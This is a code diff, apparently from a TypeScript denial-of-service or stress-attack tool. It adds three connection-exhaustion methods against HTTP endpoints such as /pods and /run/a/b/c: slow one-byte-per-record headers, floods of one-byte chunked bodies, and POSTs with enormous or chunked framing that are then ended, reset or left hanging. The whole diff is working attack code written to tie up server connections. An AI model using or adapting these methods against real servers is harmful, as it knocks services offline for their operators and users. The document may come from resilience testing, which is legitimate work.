@@ -44,6 +44,18 @@ async function tls(): Promise<TLSSocket | undefined> {
   return socket;
 }
 
+/** Or closed. */
+function drained(socket: Socket): Promise<void> {
+  return new Promise((resolve) => {
+    const done = (): void => {
+      socket.off("drain", done).off("close", done);
+      resolve();
+    };
+    socket.once("drain", done).once("close", done);
+    if (socket.destroyed) done();
+  });
+}
+
 /** `make` again and again, a few at a time, until as many connections are open as the attack holds. */
 async function crowd(make: (index: number) => Promise<void>, total = requests): Promise<void> {
   for (let made = 0; made < total && !isOver;) {
@@ -138,6 +150,35 @@ const METHODS: Readonly<Record<StrangerData["method"], () => Promise<void>>> = {
         stream.close(constants.NGHTTP2_CANCEL);
         if (i % 50 === 0) await sleep(1);
       }
+    }),
+  "one-byte-heads": () =>
+    crowd(async () => {
+      const socket = counting(await tls());
+      socket?.write(`GET /pods HTTP/1.1\r\n${HEAD}X-Long: `);
+      // A record of TLS for each byte, so that each is read by itself.
+      for (let sent = 0; sent < 60_000 && socket?.writable === true && !isOver; sent++) {
+        if (!socket.write("x")) await drained(socket);
+      }
+    }),
+  "one-byte-chunks": () =>
+    crowd(async () => {
+      const socket = counting(await tls());
+      socket?.write(`POST /pods HTTP/1.1\r\n${HEAD}Transfer-Encoding: chunked\r\n\r\n`);
+      const chunks = Buffer.from("1\r\nx\r\n".repeat(10_000));
+      for (let sent = 0; sent < 500 && socket?.writable === true && !isOver; sent++) {
+        if (!socket.write(chunks)) await drained(socket);
+      }
+    }),
+  "cut-bodies": () =>
+    crowd(async (index) => {
+      const socket = counting(await tls());
+      const framing =
+        index % 2 === 0 ? "Content-Length: 9000000000" : "Expect: 100-continue\r\nTransfer-Encoding: chunked";
+      socket?.write(`POST /run/a/b/c HTTP/1.1\r\n${HEAD}${framing}\r\n\r\n1\r\n`);
+      await sleep(index % 20);
+      // Ends its side, is reset, or stays.
+      if (index % 3 === 0) socket?.end();
+      else if (index % 3 === 1) socket?.destroy();
     }),
   "random-tokens": () =>
     crowd(async () => {
